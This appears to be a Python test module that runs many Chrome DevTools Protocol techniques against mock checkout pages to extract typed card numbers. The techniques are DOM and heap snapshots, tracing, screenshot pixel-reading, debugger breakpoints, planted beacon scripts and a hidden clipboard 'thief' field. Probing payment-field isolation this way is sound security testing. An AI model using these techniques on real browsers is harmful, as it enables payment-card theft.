"""What the protocol itself shows of a page: trees, pictures, heaps, traces, the debugger, keys and the clipboard."""

import base64
import json
import re
import zlib

from attacks import VALUES, attack, png, read_digits
from support.cdp import CdpError
from support.checkout import wait_for, where_is


@attack()
def accessibility_tree(a):
    """Accessibility.getFullAXTree of the page and each frame."""
    a.open()
    a.ask(a.page.session, "Accessibility.enable")
    a.fill()
    a.ask(a.page.session, "Accessibility.getFullAXTree")
    tree = a.ask(a.page.session, "Page.getFrameTree")
    for child in (tree or {}).get("frameTree", {}).get("childFrames", []):
        a.ask(a.page.session, "Accessibility.getFullAXTree", frameId=child["frame"]["id"])
    for frame in a.frames():
        a.ask(frame, "Accessibility.getFullAXTree")
    a.pay()


@attack()
def dom_snapshot(a):
    """DOMSnapshot.captureSnapshot has the values of inputs."""
    a.open()
    a.fill()
    for session in [a.page.session, *a.frames()]:
        a.ask(session, "DOMSnapshot.captureSnapshot", computedStyles=[])
    a.pay()


@attack()
def dom_pierced(a):
    """DOM.getDocument through all shadow roots and frames, and the text that user agents keep inside inputs."""
    a.open()
    a.fill()
    for session in [a.page.session, *a.frames()]:
        a.ask(session, "DOM.enable", includeWhitespace="all")
        a.ask(session, "DOM.getDocument", depth=-1, pierce=True)
        a.ask(session, "DOM.getFlattenedDocument", depth=-1, pierce=True)
        found = a.ask(session, "DOM.performSearch", query="input", includeUserAgentShadowDOM=True)
        for node in (a.ask(session, "DOM.getSearchResults", searchId=found["searchId"], fromIndex=0, toIndex=found["resultCount"])
                     if found and found["resultCount"] else {}).get("nodeIds", []):
            a.ask(session, "DOM.getOuterHTML", nodeId=node, includeShadowDOM=True)
    a.pay()


@attack("xhr_form", "payment_element")
def remote_objects(a):
    """Runtime.getProperties of the inputs, through objects that were taken before the fill."""
    a.open()
    objects = []
    for session in [a.page.session, *a.frames()]:
        got = a.ask(session, "Runtime.evaluate", expression="[...document.querySelectorAll('input')]")
        if got and got["result"].get("objectId"):
            objects.append((session, got["result"]["objectId"]))
    a.fill()
    for session, handle in objects:
        a.ask(session, "Runtime.callFunctionOn", objectId=handle, functionDeclaration="function () { return this.map(i => i.value).join(); }", returnByValue=True)
        a.ask(session, "Runtime.getProperties", objectId=handle, ownProperties=False, generatePreview=True)
    a.pay()


@attack()
def isolated_world(a):
    """Page.createIsolatedWorld with universal access in the page and in each frame."""
    a.open()
    a.fill()
    tree = a.ask(a.page.session, "Page.getFrameTree")
    frames = [a.page.target_id] + [c["frame"]["id"] for c in (tree or {}).get("frameTree", {}).get("childFrames", [])]
    frames += [i["targetId"] for i in a.browser.targets() if i["type"] == "iframe"]
    for frame in frames:
        world = a.ask(a.page.session, "Page.createIsolatedWorld", frameId=frame, worldName="x", grantUniveralAccess=True)
        if world:
            a.look(session=a.page.session, contextId=world["executionContextId"])
    a.pay()


@attack("payment_element", "elements_three")
def every_context(a):
    """Runtime.evaluate in every execution context that was announced, and by guessed context numbers."""
    a.open()
    sessions = [a.page.session, *a.frames()]
    for session in sessions:
        a.ask(session, "Runtime.enable")
    a.fill()
    for session in sessions:
        for context in range(1, 6):
            a.look(session=session, contextId=context)
    a.pay()


@attack("payment_element", "elements_three", "xhr_form")
def auto_attach_to_frames(a):
    """Target.setAutoAttach that pauses new frames at their start, and a script planted in each."""
    target = a.browser.call("Target.createTarget", {"url": "about:blank"})["targetId"]
    session = a.browser.attach(target)
    plant = a.beacon() + "setInterval(() => { const v = %s; if (v.length > 12) out(v); }, 30);" % VALUES
    a.ask(session, "Page.enable")
    a.ask(session, "Page.addScriptToEvaluateOnNewDocument", source=plant)
    a.ask(session, "Target.setAutoAttach", autoAttach=True, waitForDebuggerOnStart=True, flatten=True)
    a.browser.events.clear()
    a.browser.call("Page.navigate", {"url": a.site.url}, session.session_id)
    from support.cdp import Session
    seen = set()

    def ready():
        for event in list(a.browser.events):
            if event["method"] == "Target.attachedToTarget" and event["params"]["sessionId"] not in seen:
                seen.add(event["params"]["sessionId"])
                frame = Session(a.browser, event["params"]["sessionId"], event["params"]["targetInfo"]["targetId"])
                a.ask(frame, "Page.enable")
                a.ask(frame, "Page.addScriptToEvaluateOnNewDocument", source=plant, runImmediately=True)
                a.ask(frame, "Runtime.runIfWaitingForDebugger")
        return a.browser.call("Runtime.evaluate", {"expression": "!!window.ready", "returnByValue": True}, session.session_id)["result"].get("value")

    wait_for(ready)
    from support.checkout import Page
    a.page = Page(session, a.site, a.began)
    a.page.pay_at = where_is(session, "#pay")
    a.pages.append(a.page)
    a.fill()
    a.look("new Promise(r => setTimeout(r, 120))")
    a.pay()


def own_number_field(a):
    return a.look("(() => { const i = document.querySelector('input'); i.style.cssText = 'font:20px monospace;width:300px;border:0;padding:0;background:#fff;color:#000;caret-color:transparent';"
                  "i.style.setProperty('-webkit-text-security', 'none', 'important'); i.blur(); document.querySelectorAll('style').forEach(s => s.remove());"
                  "for (const s of document.adoptedStyleSheets) s.disabled = true; const r = i.getBoundingClientRect(); return [r.x, r.y, r.width, r.height]; })()")


def read_pixels(a, shoot):
    """Lines with ten known values are drawn and compared, cell by cell, with the picture of the number's field."""
    at = own_number_field(a)
    if not at:
        return
    x, y, width, height = at["result"]["value"]
    clip = {"x": round(x), "y": round(y), "width": 300, "height": round(height), "scale": 1}
    picture = shoot(clip)
    if not picture:
        return
    other = a.browser.open(a.sites.origin("evil") + "/blank")
    a.undo.append(other.close)
    references = {}
    other.evaluate("document.body.innerHTML = '<input style=\"position:absolute;left:%fpx;top:%fpx;height:%fpx;box-sizing:border-box\">'; 1" % (x, y, height))
    for digit in "0123456789":
        other.evaluate("(() => { const i = document.querySelector('input'); i.style.font = '20px monospace'; i.style.width = '300px'; i.style.border = 0; i.style.padding = 0;"
                       "i.style.background = '#fff'; i.style.color = '#000'; i.value = '%s'; })()" % " ".join([digit * 4] * 4))
        references[digit] = png(other.call("Page.captureScreenshot", format="png", clip=clip)["data"])
    advance = other.evaluate("(() => { const c = document.createElement('canvas').getContext('2d'); c.font = '20px monospace'; return c.measureText('0'.repeat(100)).width / 100; })()")
    text = read_digits(picture, references, advance, x - round(x))
    a.see("pixels: " + text.strip() + " " + text.replace(" ", ""))


@attack("xhr_form")
def screenshot_by_pixel(a):
    """A picture of the field, its digits read by comparison; what paints dots is taken away first."""
    a.open()
    a.fill()

    def shoot(clip):
        got = a.ask(a.page.session, "Page.captureScreenshot", format="png", clip=clip)
        return got and png(got["data"])
    read_pixels(a, shoot)
    a.pay()


@attack("xhr_form")
def screencast_by_pixel(a):
    """The same from a frame of a screencast."""
    a.open()
    a.fill()

    def shoot(clip):
        a.browser.events.clear()
        if a.ask(a.page.session, "Page.startScreencast", format="png", everyNthFrame=1) is None:
            return None
        a.look("(() => { document.body.style.background = '#fefefe'; return new Promise(r => setTimeout(r, 300)); })()")
        frames = [e for e in a.browser.events if e["method"] == "Page.screencastFrame"]
        a.ask(a.page.session, "Page.stopScreencast")
        if not frames:
            return None
        whole = png(frames[-1]["params"]["data"])
        left, top = clip["x"], clip["y"]
        rows = [row[left * 3:(left + 300) * 3] for row in whole.rows[top:top + clip["height"]]]
        return type(whole)(300, len(rows), rows)
    read_pixels(a, shoot)
    a.pay()


def pdf_texts(data):
    """The text of a PDF that Chromium made: glyphs through their ToUnicode tables."""
    streams = []
    for match in re.finditer(rb"stream\r?\n(.*?)endstream", data, re.S):
        try:
            streams.append(zlib.decompress(match.group(1)))
        except zlib.error:
            pass
    table = {}
    for stream in streams:
        for part in re.findall(rb"beginbfchar(.*?)endbfchar", stream, re.S):
            for glyph, char in re.findall(rb"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", part):
                table[int(glyph, 16)] = chr(int(char[-4:], 16))
        for part in re.findall(rb"beginbfrange(.*?)endbfrange", stream, re.S):
            for first, last, char in re.findall(rb"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", part):
                for i in range(int(last, 16) - int(first, 16) + 1):
                    table[int(first, 16) + i] = chr(int(char[-4:], 16) + i)
    out = []
    for stream in streams:
        if b"Tj" in stream or b"TJ" in stream:
            line = "".join(table.get(int(h[i:i + 4], 16), "?") for h in (m.decode() for m in re.findall(rb"<([0-9A-Fa-f]+)>", stream))
                           for i in range(0, len(h), 4))
            out += [line, line.replace(" ", "")]
    return "\n".join(out)


@attack()
def print_to_pdf(a):
    """Page.printToPDF, its glyphs turned back into text."""
    a.open()
    a.fill()
    a.look("document.querySelectorAll('input').forEach(i => i.style.setProperty('-webkit-text-security', 'none', 'important'))")
    got = a.ask(a.page.session, "Page.printToPDF")
    if got:
        a.see(pdf_texts(base64.b64decode(got["data"])))
    a.pay()


@attack()
def capture_snapshot(a):
    """Page.captureSnapshot (MHTML), after each value was made an attribute."""
    a.open()
    a.fill()
    a.look("document.querySelectorAll('input').forEach(i => i.setAttribute('value', i.value))")
    a.ask(a.page.session, "Page.captureSnapshot")
    a.pay()


@attack()
def heap_snapshot(a):
    """HeapProfiler.takeHeapSnapshot of the page and each frame."""
    a.open()
    a.fill()
    a.pay()
    for session in [a.page.session, *a.frames()]:
        a.look("window.kept = [...document.querySelectorAll('input')].map(i => i.value); 1", session)
        a.ask(session, "HeapProfiler.enable")
        a.ask(session, "HeapProfiler.takeHeapSnapshot", reportProgress=False)


@attack("masked", "payment_element", control=False)
def tracing(a):
    """Tracing of everything, with the network's log, as events and as a stream."""
    a.open()
    categories = "disabled-by-default-netlog,netlog,devtools.timeline,disabled-by-default-devtools.timeline,disabled-by-default-devtools.screenshot,v8,ipc"
    started = False
    try:
        a.browser.call("Tracing.start", {"transferMode": "ReturnAsStream", "traceConfig": {"includedCategories": categories.split(",")}})
        started = True
    except CdpError as error:
        a.refusals.append(str(error)[:80])
    a.fill()
    a.pay()
    if started:
        a.browser.events.clear()
        a.browser.call("Tracing.end")
        done = wait_for(lambda: a.browser.targets() and [e for e in a.browser.events if e["method"] == "Tracing.tracingComplete"], 10)
        handle = done and done[0]["params"].get("stream")
        while handle:
            part = a.browser.call("IO.read", {"handle": handle})
            if part.get("base64Encoded"):
                a.see(base64.b64decode(part["data"]))
            if part["eof"]:
                break


@attack("xhr_form", "payment_element", control=False)
def browser_memory(a):
    """Memory, SystemInfo, Browser, Storage and IO methods that give insides of the browser."""
    a.open()
    a.fill()
    for method, params in (("Memory.prepareForLeakDetection", {}), ("Memory.startSampling", {}), ("Memory.getAllTimeSamplingProfile", {}),
                           ("Memory.getDOMCounters", {}), ("SystemInfo.getInfo", {}), ("SystemInfo.getProcessInfo", {}), ("Browser.getBrowserCommandLine", {}),
                           ("Browser.getHistograms", {}), ("Tracing.requestMemoryDump", {}), ("IO.resolveBlob", {"objectId": "1.1.1"}), ("IO.read", {"handle": "1"}),
                           ("Storage.getCookies", {}), ("SystemInfo.getFeatureState", {"featureState": "x"}), ("Browser.crashGpuProcess", {})):
        if method == "Browser.crashGpuProcess" and a.strength == "dom":
            continue
        try:
            a.browser.call(method, params)
        except CdpError as error:
            a.refusals.append(str(error)[:60])
    a.pay()


@attack("xhr_form", "masked")
def debugger_in_the_click(a):
    """The debugger stops in the handler of the click on Pay and evaluates on that call frame."""
    a.open()
    a.ask(a.page.session, "Debugger.enable")
    a.ask(a.page.session, "DOMDebugger.setEventListenerBreakpoint", eventName="click")
    if not a.fill():
        return
    at = a.page.pay_at
    a.browser.events.clear()
    for kind in ("mousePressed", "mouseReleased"):
        a.browser.next_id += 1
        a.browser.socket.send(json.dumps({"id": a.browser.next_id, "method": "Input.dispatchMouseEvent", "sessionId": a.page.session.session_id,
                                          "params": {"type": kind, "x": at[0], "y": at[1], "button": "left", "clickCount": 1}}))
    paused = wait_for(lambda: a.browser.targets() and [e for e in a.browser.events if e["method"] == "Debugger.paused"], 3)
    if paused:
        frame = paused[0]["params"]["callFrames"][0]["callFrameId"]
        a.ask(a.page.session, "Debugger.evaluateOnCallFrame", callFrameId=frame, expression=VALUES, returnByValue=True)
        a.ask(a.page.session, "DOMDebugger.removeEventListenerBreakpoint", eventName="click")
        a.ask(a.page.session, "Debugger.resume")
    a.ask(a.page.session, "Debugger.disable")
    a.settle()


@attack("masked", "payment_element")
def debugger_statement_breakpoints(a):
    """Breakpoints by URL in the page's and the processor's scripts, hit while the card is typed or posted."""
    a.open()
    sessions = [a.page.session, *a.frames()]
    log = a.beacon() + "out(JSON.stringify([...document.querySelectorAll('input')].map(i => i.value))), false"
    for session in sessions:
        a.ask(session, "Debugger.enable")
        for line in range(0, 30):
            a.ask(session, "Debugger.setBreakpointByUrl", lineNumber=line, urlRegex=".*(card|own|frame|xhr_form|masked).*", condition="(() => { %s })()" % log.replace("\n", " ").replace(", false", "; return false;"))
    a.fill()
    a.pay()
    for session in sessions:
        a.ask(session, "Debugger.disable")


@attack("xhr_form", "payment_element")
def event_values_by_monitoring(a):
    """DOM breakpoints and DOM.enable events (attributeModified, characterDataModified), with each value mirrored into an attribute."""
    a.open(plant="setInterval(() => document.querySelectorAll('input').forEach(i => i.setAttribute('data-v', i.value)), 20);")
    for session in [a.page.session, *a.frames()]:
        a.ask(session, "DOM.enable")
        a.ask(session, "DOM.getDocument", depth=-1, pierce=True)
    a.fill()
    a.look("new Promise(r => setTimeout(r, 100))")
    a.pay()


def field_point(a):
    """Where the number's field stands in the page: its own, or the first frame's."""
    return a.page.session.evaluate("(() => { const e = document.querySelector('iframe:not([aria-hidden])') || document.querySelector('input');"
                                   "const r = e.getBoundingClientRect(); return [r.x + 60, r.y + (e.tagName === 'IFRAME' ? Math.min(r.height / 2, 30) : r.height / 2)]; })()")


# What paints dots also keeps text from being copied.
UNHIDE = "document.querySelectorAll('input').forEach(i => i.style.setProperty('-webkit-text-security', 'none', 'important'))"
THIEF = "addEventListener('DOMContentLoaded', () => { const t = document.createElement('textarea'); t.id = 'thief'; t.style.cssText = 'position:fixed;right:0;top:0;width:90px;height:60px';" \
        "t.setAttribute('aria-hidden', 'true'); for (const k of ['input', 'paste', 'drop']) t.addEventListener(k, e => out(t.value + ((e.clipboardData || e.dataTransfer || {getData() {}}).getData('text/plain') || '')));" \
        "document.body.append(t); });"


@attack("xhr_form", "payment_element", "one_line", "elements_three")
def cut_and_paste_by_keys(a):
    """A click into the filled field, select all, copy and cut by keys, a click into an own field, paste."""
    a.open(plant=THIEF)
    point, thief = field_point(a), where_is(a.page.session, "#thief")
    a.fill()
    a.look(UNHIDE)
    for command, key in (("copy", "c"), ("cut", "x")):
        a.click(point)
        a.keys("a", "KeyA", 65, modifiers=2, commands=["selectAll"])
        a.keys(key, "Key" + key.upper(), ord(key.upper()), modifiers=2, commands=[command])
        a.click(thief)
        a.keys("v", "KeyV", 86, modifiers=2, commands=["paste"])
        a.look("document.getElementById('thief').value")
    a.pay()
    a.click(thief)
    a.keys("v", "KeyV", 86, modifiers=2, commands=["paste"])
    a.look("document.getElementById('thief').value")


@attack("xhr_form", "payment_element", control=False)
def drag_into_own_field(a):
    """The number is marked with the mouse and dragged into an own field; drags are also intercepted."""
    a.open(plant=THIEF)
    point, thief = field_point(a), where_is(a.page.session, "#thief")
    a.ask(a.page.session, "Input.setInterceptDrags", enabled=True)
    a.fill()
    a.click(point, times=3)
    a.keys("a", "KeyA", 65, modifiers=2, commands=["selectAll"])

    def mouse(kind, at, buttons):
        a.ask(a.page.session, "Input.dispatchMouseEvent", type=kind, x=at[0], y=at[1], button="left", buttons=buttons, clickCount=1)
    mouse("mousePressed", point, 1)
    for step in range(1, 6):
        mouse("mouseMoved", [point[0] + (thief[0] - point[0]) * step / 5, point[1] + (thief[1] - point[1]) * step / 5], 1)
    data = [e["params"]["data"] for e in a.browser.events if e["method"] == "Input.dragIntercepted"]
    if data:
        for kind in ("dragEnter", "dragOver", "drop"):
            a.ask(a.page.session, "Input.dispatchDragEvent", type=kind, x=thief[0], y=thief[1], data=data[-1])
    mouse("mouseReleased", thief, 0)
    a.look("document.getElementById('thief').value")
    a.pay()


@attack("xhr_form", "payment_element")
def clipboard_api(a):
    """navigator.clipboard with its permission granted, and execCommand in the page."""
    a.open()
    try:
        a.browser.call("Browser.grantPermissions", {"permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"], "origin": a.sites.origin("shop")})
    except CdpError as error:
        a.refusals.append(str(error)[:60])
    point = field_point(a)
    a.fill()
    a.look(UNHIDE)
    a.click(point)
    a.keys("a", "KeyA", 65, modifiers=2, commands=["selectAll"])
    a.keys("c", "KeyC", 67, modifiers=2, commands=["copy"])
    a.look("(() => { const i = document.querySelector('input'); if (i) { i.select(); document.execCommand('copy'); } })()", userGesture=True)
    a.ask(a.page.session, "Page.bringToFront")
    a.look("navigator.clipboard.readText()", userGesture=True)
    a.look("String(getSelection())")
    a.pay()


@attack("xhr_form", "payment_element", control=False)
def autofill_preview(a):
    """After paying, the same form again: focus, arrow down, Enter; and Autofill's own methods."""
    a.open()
    a.ask(a.page.session, "Autofill.enable")
    a.fill()
    a.pay()
    again = a.open()
    point = again.session.evaluate("(() => { const e = document.querySelector('iframe') || document.querySelector('input'); const r = e.getBoundingClientRect(); return [r.x + 60, r.y + 12]; })()")
    a.click(point, again.session)
    for key, code, number in (("ArrowDown", "ArrowDown", 40), ("ArrowDown", "ArrowDown", 40), ("Enter", "Enter", 13)):
        a.keys(key, code, number, session=again.session)
    a.look("(() => { const i = document.querySelector('input:-webkit-autofill'); return i && i.value; })()", again.session)
    a.look(session=again.session)
    for frame in a.frames():
        a.look(session=frame)


@attack("xhr_form", "payment_element", control=False)
def speech_and_spelling(a):
    """Input.imeSetComposition and insertText beside the typed digits, read back from what the page tells about selections."""
    a.open(plant="setInterval(() => out(String(getSelection())), 40);")
    point = field_point(a)
    a.fill()
    a.click(point, times=3)
    a.ask(a.page.session, "Input.imeSetComposition", text="1", selectionStart=0, selectionEnd=1)
    a.keys("a", "KeyA", 65, modifiers=2, commands=["selectAll"])
    a.look("String(getSelection())")
    a.ask(a.page.session, "DOM.enable")
    a.ask(a.page.session, "DOM.getNodeForLocation", x=int(point[0]), y=int(point[1]), includeUserAgentShadowDOM=True)
    a.pay()


@attack("xhr_form")
def live_edit_and_profiling(a):
    """The page's scripts are replaced while it runs, and precise coverage and profiles taken."""
    a.open(plant="window.send0 = XMLHttpRequest.prototype.send;")
    a.ask(a.page.session, "Debugger.enable")
    a.ask(a.page.session, "Profiler.enable")
    a.ask(a.page.session, "Profiler.start")
    a.fill()
    a.look("(() => { %s byId('pay').onclick = (old => function () { out(%s); return old.apply(this, arguments); })(byId('pay').onclick); })()" % (a.beacon(), VALUES))
    a.pay()
    a.ask(a.page.session, "Profiler.stop")
    a.ask(a.page.session, "Debugger.disable")
